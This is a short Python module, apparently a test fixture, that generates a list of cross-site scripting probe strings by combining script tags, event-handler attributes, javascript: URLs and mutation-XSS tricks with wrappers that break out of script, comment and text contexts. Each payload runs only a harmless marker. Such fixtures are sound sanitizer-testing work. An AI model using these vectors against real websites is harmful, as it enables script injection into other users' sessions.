"""Texts that would run if a page took any of them for anything but text."""

from __future__ import annotations

from itertools import product

_RUN = "ran.push(1)"
_TEMPLATES = (
    "<script>{run}</script>",
    "<ScRiPt src=data:,{run}></sCrIpT>",
    "<img src=x onerror={run}>",
    "<img src=x onerror='{run}'//",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<body onload={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'>",
    "<iframe src='javascript:parent.{run}'></iframe>",
    "<a href='javascript:{run}' autofocus onfocus={run} tabindex=0>x</a>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<object data='javascript:{run}'>",
    "<embed src='javascript:{run}'>",
    "<meta http-equiv=refresh content='0;javascript:{run}'>",
    "<base href='javascript:{run}//'>",
    "<style>*{{background:url('javascript:{run}')}}</style>",
    "<link rel=stylesheet href='javascript:{run}'>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={run}></style></mglyph></math>",
    "javascript:{run}",
)
_AROUND = (
    "{}",
    "</script>{}",
    "</SCRIPT \t>{}<script>",
    "<!--<script>{}-->",
    "\"'></title></style></textarea></script>{}",
    "]]>*/{}\u2028{}",
    "\\u003c/script>\\x3c/script>&lt;/script&gt;{}",
)

PAYLOADS = [
    around.replace("{}", template.format(run=_RUN))
    for around, template in product(_AROUND, _TEMPLATES)
]
